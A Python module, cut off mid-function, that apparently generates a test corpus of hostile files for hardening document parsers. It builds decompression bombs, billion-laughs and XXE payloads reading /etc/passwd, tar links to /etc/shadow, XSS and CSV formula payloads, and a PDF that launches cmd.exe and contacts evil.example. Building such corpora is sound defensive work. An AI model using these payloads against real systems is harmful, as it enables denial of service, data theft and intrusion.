"""Files that attack whoever opens them, each made by code: bombs, loops, depths, numbers that are too large, names.

``FILES`` names each and makes its bytes, none larger than ten million; ``NAMES`` are file names that attack.
Nothing of it does harm by lying on a disk. What a file does to a careless reader stands behind its name.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

MB = 1_000_000
FILES: dict[str, Callable[[], bytes]] = {}
NAMES = (
    "../../../../tmp/escaped.pdf",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\autoexec.bat",
    "nul\x00.pdf",
    "invoice\u202efdp.exe",
    "\u2066\u2067letter\u2069.txt",
    "n" * 300 + ".txt",
    "CON",
    "aux.txt",
    "...",
    " ",
    "line\nbreak.txt",
    "tab\tbell\x07.txt",
    '"; filename="other.txt',
    "<img src=x onerror=alert(1)>.txt",
    "{{ 7*7 }}.txt",
    "-rf.txt",
    "$(id).txt",
    "\ud800lone.txt",
    "ﷺ" * 80 + ".txt",
    "=cmd|'/c calc'!A1.csv",
)


def file(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def kept(made: Callable[[], bytes]) -> Callable[[], bytes]:
        FILES[name] = made
        return made

    return kept


def zipped(members: dict[str, bytes], level: int = 9) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


# --- archives


@file("forty-two.zip")  # sixteen of sixteen of sixteen of sixteen of a file of 100 MB: six terabytes
def _forty_two() -> bytes:
    content = zipped({"0": bytes(100 * MB)})
    for _ in range(4):
        content = zipped({f"{number}.zip": content for number in range(16)})
    return content


@file("thousand-deep.zip")  # a thousand archives, each in the one before
def _deep_zip() -> bytes:
    content = b"the innermost"
    for _ in range(1000):
        content = zipped({"a.zip": content}, 0)
    return content


@file("many-members.zip")  # 60,000 members without a byte
def _many_members() -> bytes:
    return zipped({f"{number}": b"" for number in range(60_000)})


@file("names.zip")  # names that climb, end early, turn round or are none
def _names_zip() -> bytes:
    named = [one for one in NAMES if "\ud800" not in one]
    return zipped(dict.fromkeys(named, b"Invented words (SAMPLE)."))


@file("same-name.zip")  # one name a thousand times
def _same_name() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for number in range(900):
            archive.filelist.clear()
            archive.NameToInfo.clear()
            archive.writestr(f"a{number % 1}.txt", b"x")
    return made.getvalue() + zipped({"a0.txt": b"y"})


@file("lying-size.zip")  # says that it holds 10 bytes, and holds 200 MB
def _lying() -> bytes:
    content = bytearray(zipped({"a.txt": bytes(200 * MB)}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        where = content.index(mark) + at
        content[where : where + 4] = struct.pack("<I", 10)
    return bytes(content)


@file("bomb.gz")  # a gigabyte of nothing
def _bomb_gz() -> bytes:
    made = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([made.compress(bytes(10 * MB)) for _ in range(100)]) + made.flush()


@file("bomb.bz2")
def _bomb_bz2() -> bytes:
    return bz2.compress(bytes(300 * MB))


@file("bomb.xz")
def _bomb_xz() -> bytes:
    return lzma.compress(bytes(300 * MB), preset=1)


@file("links.tar.gz")  # links out of the folder, and a file that is written through one; devices; a negative size
def _links_tar() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, kind, to in (
            ("out", tarfile.SYMTYPE, "/tmp"),  # noqa: S108 - where the link leads
            ("passwd", tarfile.SYMTYPE, "/etc/passwd"),
            ("hard", tarfile.LNKTYPE, "/etc/shadow"),
            ("null", tarfile.CHRTYPE, ""),
            ("pipe", tarfile.FIFOTYPE, ""),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, to
            archive.addfile(entry)
        entry = tarfile.TarInfo("out/escaped.txt")
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"gone"))
    return made.getvalue()


@file("sparse.tar")  # GNU sparse: says that it holds eight exabytes
def _sparse_tar() -> bytes:
    entry = tarfile.TarInfo("a.bin")
    entry.type = tarfile.GNUTYPE_SPARSE
    head = bytearray(entry.tobuf(tarfile.GNU_FORMAT))
    head[386:398], head[398:410], head[483:495] = b"00000000000\0", b"00000000000\0", b"77777777777\0"
    head[148:156] = b" " * 8
    head[148:156] = f"{sum(head[:512]):06o}\0 ".encode()
    return bytes(head) + bytes(1024)


# --- office documents

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LAUGHS = (
    "<!DOCTYPE w [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


def docx(body: str, head: str = "") -> bytes:
    document = f'<?xml version="1.0"?>{head}<w:document {_W}><w:body>{body}</w:body></w:document>'
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({"[Content_Types].xml": types.encode(), "_rels/.rels": f"{_RELS}/>".encode(),
                   "word/document.xml": document.encode()})  # fmt: skip


@file("laughs.docx")  # a billion laughs
def _laughs() -> bytes:
    return docx("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", _LAUGHS)


@file("outside.docx")  # an entity that is a file of the machine
def _outside() -> bytes:
    return docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", "<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>")


@file("quadratic.docx")  # one long entity, many times
def _quadratic() -> bytes:
    return docx(f"<w:p><w:r><w:t>{'&x;' * 50_000}</w:t></w:r></w:p>", f"<!DOCTYPE w [<!ENTITY x '{'x' * 50_000}'>]>")


@file("deep.docx")  # 100,000 tables, each in the one before
def _deep_docx() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 100_000 + "</w:tc></w:tr></w:tbl>" * 100_000)


@file("long.docx")  # two million paragraphs
def _long_docx() -> bytes:
    return docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 2_000_000)


def xlsx(sheet: str, more: dict[str, bytes] | None = None) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
        "_rels/.rels": f'{_RELS}><Relationship Id="r1" Type="{relation}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{relation}"><sheets><sheet name="A" sheetId="1" '
        'r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{_RELS}><Relationship Id="r1" Type="{relation}/worksheet" '
        f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{relation}/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}">{sheet}</worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}"/>',
    }
    return zipped({name: text.encode() for name, text in parts.items()} | (more or {}))


@file("corner.xlsx")  # one cell, in the last row and column
def _corner() -> bytes:
    return xlsx('<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                "</sheetData>")  # fmt: skip


@file("merged.xlsx")  # every cell that there can be is one
def _merged() -> bytes:
    return xlsx('<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell '
                'ref="A1:XFD1048576"/></mergeCells>')  # fmt: skip


@file("strings.xlsx")  # 400 MB of shared strings
def _strings() -> bytes:
    texts = b"<sst>" + b"<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>" * 6_000_000 + b"</sst>"
    return xlsx("<sheetData/>", {"xl/sharedStrings.xml": texts})


@file("rows.xlsx")  # three million rows
def _rows() -> bytes:
    return xlsx(f"<sheetData>{'<row><c><v>1</v></c></row>' * 3_000_000}</sheetData>")


@file("repeated.ods")  # a cell that says that it is a billion times a million cells
def _repeated() -> bytes:
    names = " ".join(
        f'xmlns:{one}="urn:oasis:names:tc:opendocument:xmlns:{one}:1.0"' for one in ("office", "table", "text")
    )
    content = (
        f"<office:document-content {names}><office:body><office:spreadsheet><table:table>"
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell '
        'table:number-columns-repeated="1000000000"><text:p>a</text:p></table:table-cell></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()})


@file("groups.rtf")  # a million groups, each in the one before
def _groups() -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"a" + b"}" * 1_000_001


@file("binary.rtf")  # says that two gigabytes follow
def _binary() -> bytes:
    return b"{\\rtf1 {\\*\\objdata \\bin2147483647 a}" + b"\\bin-1 " * 100_000 + b"}"


@file("deep.html")  # 500,000 elements, each in the one before
def _deep_html() -> bytes:
    return b"<html><body>" + b"<div>" * 500_000 + b"a"


@file("active.html")  # what a browser would run or fetch
def _active() -> bytes:
    return (
        b"<html><head><meta http-equiv=refresh content='0;url=file:///etc/passwd'><base href=//evil.example>"
        b"<link rel=stylesheet href=http://127.0.0.1:1/x></head><body onload=alert(1)><script>alert(1)</script>"
        b"<iframe src=file:///etc/passwd></iframe><img src=x onerror=alert(1)><svg onload=alert(1)>"
        b"<object data=file:///etc/shadow></object>Words (SAMPLE).</body></html>"
    )


@file("attributes.html")  # an element with 300,000 attributes
def _attributes() -> bytes:
    return b"<p " + b" ".join(b"a%d=1" % number for number in range(300_000)) + b">a</p>"


# --- tables and texts


@file("wide.csv")  # one row of four million columns
def _wide() -> bytes:
    return b"a," * 4_000_000


@file("unclosed.csv")  # a quote that nothing closes
def _unclosed() -> bytes:
    return b'a,b\n1,"' + b"x,\n" * 2_000_000


@file("formulas.csv")
def _formulas() -> bytes:
    return b"=cmd|'/c calc'!A1,@SUM(1),+1,-1,\tx\n" * 100


@file("one-line.txt")  # nine million letters without a blank
def _one_line() -> bytes:
    return b"a" * 9_000_000


@file("patterns.txt")  # what makes careless patterns try for ever
def _patterns() -> bytes:
    parts = [b"a@" * 20_000, b"1-" * 50_000, b"(" * 50_000, b"a." * 50_000, b" " * 100_000, b"A" * 50_000 + b"!",
             b"000-00-000" * 10_000, b"http://" * 10_000, b"John " * 20_000, b"12/12/" * 20_000, b"\t" * 50_000,
             b"On " * 20_000, b"> " * 50_000, b"Dear " * 20_000, b"no. " * 20_000]  # fmt: skip
    return b"\n".join(parts)


@file("marks.txt")  # one letter with a million accents, and signs that turn the line round
def _marks() -> bytes:
    return ("a" + "\u0301" * 1_000_000 + "\u202e\u2066" * 10_000 + "\u200d" * 100_000).encode()


@file("nul.txt")
def _nul() -> bytes:
    return b"Words (SAMPLE)\x00 and more\x00" * 1000


# --- PDF


def pdf(objects: dict[int, bytes], *, root: int = 1, size: int = 0, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, with a table of where they lie."""
    made = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(made)
    size = size or max(objects) + 1
    made += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        made += b"%d 1\n%010d 00000 n \n" % (number, place)
    made += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(made)


def stream(content: bytes, entries: bytes = b"", *, packed: bool = True) -> bytes:
    if packed:
        content, entries = zlib.compress(content, 9), entries + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def page(content: bytes, more: dict[int, bytes] | None = None, *, entries: bytes = b"", resources: bytes = b"",
         box: bytes = b"0 0 612 792", catalog: bytes = b"") -> bytes:  # fmt: skip
    """One page that shows ``content``, an object that is a stream; objects of one's own begin at 10."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>"
        % (box, resources, entries),
        4: content,
        5: _FONT,
    }
    return pdf(objects | (more or {}))


_WORDS = b"BT /F 12 Tf 72 700 Td (Invented words, SAMPLE.) Tj ET"


@file("million-pages.pdf")  # six levels of ten: a million pages of one object
def _million_pages() -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 10 0 R>>", 3: b"<</Type/Page/MediaBox[0 0 612 792]/Contents 4 0 R>>",
               4: stream(_WORDS), 5: _FONT}  # fmt: skip
    for level in range(6):
        kid = b"%d 0 R " % (11 + level if level < 5 else 3)
        objects[10 + level] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kid * 10, 10 ** (6 - level))
    return pdf(objects)


@file("flat-pages.pdf")  # 400,000 pages side by side
def _flat_pages() -> bytes:
    kids = b"3 0 R " * 400_000
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 400000/Kids[%s]>>" % kids,
                3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"})  # fmt: skip


@file("page-loop.pdf")  # a tree of pages that is its own branch
def _page_loop() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2/Parent 2 0 R>>",
                3: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})  # fmt: skip


@file("deep-pages.pdf")  # 50,000 levels of pages
def _deep_pages() -> bytes:
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for number in range(2, 50_002):
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (number + 1, number - 1)
    objects[50_002] = b"<</Type/Page/Parent 50001 0 R/MediaBox[0 0 612 792]>>"
    return pdf(objects)


def _boxed(name: str, box: bytes, more: bytes = b"") -> None:
    FILES[f"box-{name}.pdf"] = lambda: page(stream(_WORDS), box=box, entries=more)


_boxed("huge", b"0 0 1000000000 1000000000")
_boxed("thin", b"0 0 0.0001 100000000")
_boxed("upside-down", b"1e38 1e38 -1e38 -1e38")
_boxed("unit", b"0 0 14400 14400", b"/UserUnit 75000")
_boxed("turned", b"0 0 612 792", b"/Rotate 45 /CropBox[900 900 901 901]")


@file("filters.pdf")  # a stream packed by 2,000 filters
def _filters() -> bytes:
    return page(stream(_WORDS, b"/Filter[%s]" % (b"/ASCIIHexDecode " * 2000), packed=False))


@file("filter-bomb.pdf")  # a kilobyte, packed three times, of a gigabyte
def _filter_bomb() -> bytes:
    once = zlib.compressobj(9)
    content = b"".join([once.compress(b" " * (10 * MB)) for _ in range(100)]) + once.flush()
    content = zlib.compress(zlib.compress(content, 9), 9)
    return page(stream(content, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]", packed=False))


@file("lzw-bomb.pdf")  # run lengths of run lengths
def _run_bomb() -> bytes:
    runs = b"\x81 " * 1_000_000
    return page(stream(runs, b"/Filter[/FlateDecode/RunLengthDecode]".replace(b"/FlateDecode", b""), packed=False))


@file("million-words.pdf")  # five million words on one page
def _million_words() -> bytes:
    return page(stream(b"BT /F 1 Tf " + b"1 0 Td (word ) Tj " * 5_000_000 + b"ET"))


@file("lines.pdf")  # two million lines
def _lines() -> bytes:
    return page(stream(b"0 0 m 9 9 l S " * 2_000_000))


@file("laughs.pdf")  # forms that draw forms: ten to the ninth
def _pdf_laughs() -> bytes:
    forms = {}
    for level in range(9):
        inner = b"/X Do " * 10 if level < 8 else _WORDS
        named = b"/XObject<</X %d 0 R>>" % (11 + level) if level < 8 else b"/Font<</F 5 0 R>>"
        entries = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<%s>>" % named
        forms[10 + level] = stream(inner, entries)
    return page(stream(b"/X Do"), forms, resources=b"/XObject<</X 10 0 R>>")


@file("form-loop.pdf")  # a form that draws itself
def _form_loop() -> bytes:
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 10 0 R>>>>"
    return page(stream(b"/X Do"), {10: stream(b"/X Do /X Do", entries)}, resources=b"/XObject<</X 10 0 R>>")


@file("saved-states.pdf")  # the state saved two million times
def _states() -> bytes:
    return page(stream(b"q " * 2_000_000 + _WORDS))


@file("brackets.pdf")  # a million brackets within brackets
def _brackets() -> bytes:
    return page(stream(_WORDS), {10: b"[" * 1_000_000 + b"]" * 1_000_000}, entries=b"/X 10 0 R")


@file("huge-picture.pdf")  # a picture of 60,000 by 60,000 in each of its ways of being packed
def _huge_picture() -> bytes:
    row = zlib.compressobj(9)
    content = b"".join([row.compress(bytes(10 * MB)) for _ in range(45)]) + row.flush()
    size = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 1"
    more = {
        10: stream(content, size + b"/Filter/FlateDecode", packed=False),
        11: stream(b"\x00" * 1000, size + b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000>>", packed=False),
    }
    draws = stream(b"612 0 0 792 0 0 cm /A Do /B Do")
    return page(draws, more, resources=b"/XObject<</A 10 0 R/B 11 0 R>>")


@file("pattern.pdf")  # tiles of a thousandth of a point
def _pattern() -> bytes:
    tile = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>"
    draws = stream(b"/Pattern cs /P scn 0 0 612 792 re f")
    return page(draws, {10: stream(b"0 0 1 1 re f", tile)}, resources=b"/Pattern<</P 10 0 R>>")


@file("function.pdf")  # a shading whose function calculates for long
def _function() -> bytes:
    program = b"{" + b"dup sin mul cos " * 200_000 + b"}"
    calculates = b"/FunctionType 4/Domain[0 1]/Range[0 1]"
    shade = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 612 792]/Function 11 0 R>>"
    return page(stream(b"/S sh"), {10: shade, 11: stream(program, calculates)}, resources=b"/Shading<</S 10 0 R>>")


@file("letters.pdf")  # a font whose letters are written in itself
def _type3() -> bytes:
    font = (b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 11 0 R>>/Encoding"
            b"<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</G 10 0 R>>>>>>")  # fmt: skip
    inner = stream(b"1 0 d0 BT /G 1 Tf (aaaaaaaaaa) Tj ET")
    more = {10: font, 11: inner}
    return page(stream(b"BT /G 12 Tf 72 700 Td (aaaaaaaaaa) Tj ET"), more, resources=b"/Font<</G 10 0 R>>")


@file("unicode-map.pdf")  # a font that maps four billion codes
def _unicode_map() -> bytes:
    cmap = (b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00000000> <FFFFFFFF> "
            b"endcodespacerange " + b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange " * 1000
            + b"endcmap end end")  # fmt: skip
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 11 0 R>>"
    return page(stream(_WORDS.replace(b"/F ", b"/G ")), {10: font, 11: stream(cmap)},
                resources=b"/Font<</G 10 0 R>>")  # fmt: skip


@file("active.pdf")  # scripts, programs, forms that are sent, files in it
def _active_pdf() -> bytes:
    actions = (b"/OpenAction<</S/JavaScript/JS(app.launchURL\\(\"http://evil.example\"\\);while\\(1\\){})>>"
               b"/AA<</WC<</S/Launch/F(cmd.exe)>>>>/AcroForm<</Fields[10 0 R]/XFA 11 0 R>>"
               b"/Names<</EmbeddedFiles<</Names[(../../evil.exe) 12 0 R]>>>>")  # fmt: skip
    more = {
        10: b"<</FT/Tx/T(a)/AA<</K<</S/SubmitForm/F(http://evil.example)>>>>>>",
        11: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>while(1);</script></xdp:xdp>"),
        12: b"<</Type/Filespec/F(../../evil.exe)/UF(../../evil.exe)/EF<</F 13 0 R>>>>",
        13: stream(b"MZ" + bytes(100), b"/Type/EmbeddedFile"),
    }
    return page(stream(_WORDS), more, catalog=actions)


@file("files-in-files.pdf")  # a PDF in a PDF, fifty times
def _nested_pdf() -> bytes:
    content = page(stream(_WORDS))
    for _ in range(50):
        more = {12: b"<</Type/Filespec/F(a.pdf)/EF<</F 13 0 R>>>>", 13: stream(content, b"/Type/EmbeddedFile")}
        content = page(stream(_WORDS), more, catalog=b"/Names<</EmbeddedFiles<</Names[(a.pdf) 12 0 R]>>>>")
    return content


@file("outlines.pdf")  # an outline that is its own next
def _outlines() -> bytes:
    return page(stream(_WORDS), {10: b"<</First 11 0 R/Last 11 0 R/Count 1>>", 11: b"<</Title(a)/Parent 10 0 R/Next "
                b"11 0 R/First 11 0 R/Last 11 0 R>>"}, catalog=b"/Outlines 10 0 R")  # fmt: skip


@file("annotations.pdf")  # 200,000 notes on one page, each a link
def _annotations() -> bytes:
    notes = b"10 0 R " * 200_000
    link = b"<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>/Popup 10 0 R/Parent 10 0 R/IRT 10 0 R>>"
    return page(stream(_WORDS), {10: link}, entries=b"/Annots[%s]" % notes)


@file("xref-loop.pdf")  # a table that says that the one before is itself; a size of two billion
def _xref_loop() -> bytes:
    made = page(stream(_WORDS))
    at = made.rindex(b"startxref")
    place = made[at:].split()[1]
    looped = (
        made[:at].replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %s" % place).replace(b"/Size ", b"/Size 2147483647/X ")
    )
    return looped + made[at:]


@file("object-stream.pdf")  # a stream of objects that holds itself, and says that it holds a billion
def _object_stream() -> bytes:
    held = stream(b"1 0 2 30 10 60 <</Type/Catalog/Pages 2 0 R>>", b"/Type/ObjStm/N 1000000000/First 12/Extends 10 0 R")
    return b"%PDF-1.5\n10 0 obj\n" + held + b"\nendobj\ntrailer<</Root 1 0 R/Size 11>>\nstartxref\n9\n%%EOF"


@file("truncated.pdf")
def _truncated() -> bytes:
    made = _flat_pages()
    return made[: len(made) // 2]


@file("polyglot.pdf")  # a page of the web, a PDF and a ZIP at once
def _polyglot() -> bytes:
    html = b"<html><script>alert(1)</script><!--\n"
    return html + page(stream(_WORDS)) + b"-->" + zipped({"../a.exe": b"MZ"})


@file("polyglot.gif")  # a GIF that is a script
def _polyglot_gif() -> bytes:
    return b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;alert(1);//" + bytes(20) + b";"


# --- pictures


def png(width: int, height: int, rows: Iterator[bytes] | bytes, *, depth: int = 1, more: bytes = b"") -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join([packer.compress(one) for one in ([rows] if isinstance(rows, bytes) else rows)]) + packer.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


@file("huge.png")  # 60,000 by 60,000, in half a megabyte
def _huge_png() -> bytes:
    return png(60_000, 60_000, (bytes(7501 * 1000) for _ in range(60)))


@file("endless.png")  # two billion by two billion, and then nothing
def _endless_png() -> bytes:
    return png(2**31 - 1, 2**31 - 1, b"", depth=16)


@file("large.png")  # 9,999 by 9,999: just as many points as are read
def _large_png() -> bytes:
    return png(9_999, 9_999, (bytes(1251 * 999) for _ in range(11)))


@file("text-bomb.png")  # a comment of 300 MB
def _text_png() -> bytes:
    return png(9, 9, bytes(27), more=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(300 * MB), 9)))


@file("frames.gif")  # 20,000 frames of 65,535 by 65,535
def _frames() -> bytes:
    one = b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x4c\x01\0"
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + one * 20_000 + b";"


@file("loop.tif")  # a directory of a picture that is its own next one
def _loop_tif() -> bytes:
    return b"II*\0\x08\0\0\0" + struct.pack("<HHHIIHHIII", 2, 256, 4, 1, 60000, 257, 4, 1, 60000, 8)


@file("many.tif")  # 100,000 directories
def _many_tif() -> bytes:
    made = bytearray(b"II*\0\x08\0\0\0")
    for _ in range(100_000):
        made += struct.pack("<HHHIIHHII", 2, 256, 4, 1, 10, 257, 4, 1, 10) + struct.pack("<I", len(made) + 30)
    return bytes(made)


@file("huge.jpg")  # 65,500 by 65,500, and progressive, and then nothing
def _huge_jpg() -> bytes:
    head = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    frame = b"\xff\xc2\0\x0b\x08" + struct.pack(">HH", 65500, 65500) + b"\x01\x01\x11\0"
    return head + frame + b"\xff\xda\0\x08\x01\x01\0\0\0\0" * 2000 + b"\xff\xd9"


@file("huge.bmp")
def _huge_bmp() -> bytes:
    return b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 60000, -60000, 1, 24, 0, 0, 0, 0, 0, 0)


@file("huge.webp")
def _huge_webp() -> bytes:
    return b"RIFF\x1c\0\0\0WEBPVP8L\x0f\0\0\0\x2f\xff\xff\xff\x0f" + bytes(12)


@file("laughs.svg")
def _svg() -> bytes:
    return (f'<?xml version="1.0"?>{_LAUGHS}<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
            "<text>&a9;</text><image href='file:///etc/passwd'/></svg>").encode()  # fmt: skip


# --- mail


_HEAD = b"From: Ada (SAMPLE) <ada@mail.example>\r\nSubject: Request\r\nMIME-Version: 1.0\r\n"


@file("thousand-deep.eml")  # a thousand parts, each in the one before
def _deep_mail() -> bytes:
    opens = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(1000))
    return _HEAD + opens + b"Content-Type: text/plain\r\n\r\nthe innermost (SAMPLE)\r\n"


@file("letters-in-letters.eml")  # a thousand messages, each in the one before
def _mail_in_mail() -> bytes:
    return _HEAD + (b"Content-Type: message/rfc822\r\n\r\n" + _HEAD) * 1000 + b"\r\nwords"


@file("many-parts.eml")  # 100,000 parts side by side
def _many_parts() -> bytes:
    return _HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\na\r\n" * 100_000 + b"--b--"


@file("headers.eml")  # 100,000 headers; one folded a million times
def _headers() -> bytes:
    many = b"".join(b"X-%d: a\r\n" % number for number in range(100_000))
    return _HEAD + many + b"References:" + b" <a@b>\r\n" * 100_000 + b"\r\nwords"


@file("encoded-words.eml")  # 100,000 encoded words in a name
def _encoded() -> bytes:
    return b"From: " + b"=?utf-8?q?=41?= =?x-none?b?//8=?= " * 50_000 + b"<a@mail.example>\r\n" + _HEAD + b"\r\nwords"


@file("addresses.eml")  # 200,000 addressees, and comments within comments
def _addresses() -> bytes:
    return (_HEAD + b"To: " + b"a@b.example, " * 200_000 + b"x\r\nCc: " + b"(" * 100_000 + b"\r\nReply-To: "
            + b"<" * 50_000 + b"\r\nSender: " + b'"\\' * 50_000 + b"\r\n\r\nwords")  # fmt: skip


@file("pieces.eml")  # a file name in 50,000 pieces, and a boundary that is everywhere
def _pieces() -> bytes:
    name = b"".join(b' filename*%d="../";' % number for number in range(50_000))
    return (_HEAD + b"Content-Type: multipart/mixed; boundary=\"-\"\r\n\r\n---\r\nContent-Disposition: attachment;"
            + name + b"\r\n\r\na\r\n" + b"-\r\n--" * 300_000)  # fmt: skip


@file("charsets.eml")
def _charsets() -> bytes:
    kinds = b"utf-7 x-unknown idna punycode unicode_escape undefined hex zlib base64 utf-16 \xff utf-8\0 bz2 rot13 mbcs"
    head = b"--b\r\nContent-Type: text/plain; charset=%s\r\nContent-Transfer-Encoding: %s\r\n\r\n"
    ways = (b"8bit", b"base64", b"quoted-printable", b"uuencode")
    parts = [head % (kind, way) + b"+ADw-\xff\\ud800 a\r\n" for kind in kinds.split(b" ") for way in ways]
    return _HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"".join(parts) + b"--b--"


@file("names.eml")  # attachments by names that attack
def _names_mail() -> bytes:
    parts = []
    for name in NAMES:
        shown = name.encode("utf-8", "surrogatepass").replace(b'"', b"'").replace(b"\n", b" ")
        parts.append(b'--b\r\nContent-Disposition: attachment; filename="%s"\r\n\r\na\r\n' % shown)
    return _HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"".join(parts) + b"--b--"


@file("packed-mail.eml.gz")  # a mail of 500 MB in half a megabyte
def _packed_mail() -> bytes:
    return gzip.compress(_HEAD + b"\r\n" + b"words " * 80_000_000, 9)


# --- sound


@file("cut.mp3")
def _cut_mp3() -> bytes:
    return b"ID3\x04\x00\x00\x7f\x7f\x7f"


@file("boxes.mp4")  # boxes in boxes, and one that is empty for ever
def _boxes() -> bytes:
